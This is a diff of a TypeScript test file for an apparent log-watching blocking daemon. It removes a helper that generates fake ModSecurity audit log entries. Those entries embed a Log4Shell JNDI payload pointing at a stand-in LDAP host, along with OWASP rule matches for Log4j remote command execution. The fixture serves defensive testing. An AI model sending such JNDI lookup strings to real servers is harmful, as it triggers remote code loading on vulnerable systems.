@@ -5,6 +5,7 @@ import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'n
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { type TestContext, test } from 'node:test'
+import { auditLine as line } from '../../scripts/bench/audit-line.ts'
 import { bin, DaemonProcess } from '../chaos/daemon-process.ts'
 
 const place = (
@@ -39,57 +40,6 @@ const riposte = (...args: string[]) => {
   const run = spawnSync(process.execPath, [bin, ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } })
   return { status: run.status, out: run.stdout, err: run.stderr, json: () => JSON.parse(run.stdout) }
 }
-
-let serial = 0
-const JNDI = '$'.concat('{jndi:ldap://198.51.100.66/a}')
-/** A transaction as ModSecurity 3 writes it; `rules` are evidence nobody can explain away (Log4Shell). */
-const line = (ip: string, rules: readonly number[], at = new Date()): string =>
-  `${JSON.stringify({
-    transaction: {
-      client_ip: ip,
-      time_stamp: at
-        .toUTCString()
-        .replace(
-          /^(\w+), (\d+) (\w+) (\d+) (\S+) GMT$/,
-          (_, w, d, m, y, c) => `${w} ${m} ${String(Number(d)).padStart(2, ' ')} ${c} ${y}`,
-        ),
-      server_id: 's',
-      client_port: 40_000,
-      host_ip: '192.0.2.80',
-      host_port: 80,
-      unique_id: `${Math.floor(at.getTime() / 1000)}${String(++serial).padStart(2, '0')}.${process.pid}`,
-      request: {
-        method: 'GET',
-        http_version: 1.1,
-        uri: rules.length > 0 ? `/?x=${JNDI}` : '/',
-        headers: { Host: 'shop.example.net', 'User-Agent': 'curl/8' },
-      },
-      response: { http_code: rules.length > 0 ? 403 : 200, headers: {} },
-      producer: {
-        modsecurity: 'ModSecurity v3.0.9 (Linux)',
-        connector: 'ModSecurity-nginx v1.0.3',
-        secrules_engine: 'Enabled',
-        components: [],
-      },
-      messages: rules.map((ruleId) => ({
-        message: 'Potential Remote Command Execution: Log4j / Log4shell',
-        details: {
-          match: `Matched "Operator \`Rx' with parameter \`x' against variable \`ARGS:x' (Value: \`${JNDI}' )`,
-          reference: '',
-          ruleId: String(ruleId),
-          file: 'REQUEST-944-APPLICATION-ATTACK-JAVA.conf',
-          lineNumber: '1',
-          data: `Matched Data: ${JNDI} found within ARGS:x: ${JNDI}`,
-          severity: '2',
-          ver: 'OWASP_CRS/3.3.4',
-          rev: '',
-          tags: ['application-multi', 'language-java', 'attack-rce', 'paranoia-level/1', 'OWASP_CRS'],
-          maturity: '0',
-          accuracy: '0',
-        },
-      })),
-    },
-  })}\n`
 
 const eventually = async (what: string, check: () => boolean, seconds = 15): Promise<void> => {
   for (const end = Date.now() + seconds * 1000; Date.now() < end; ) {
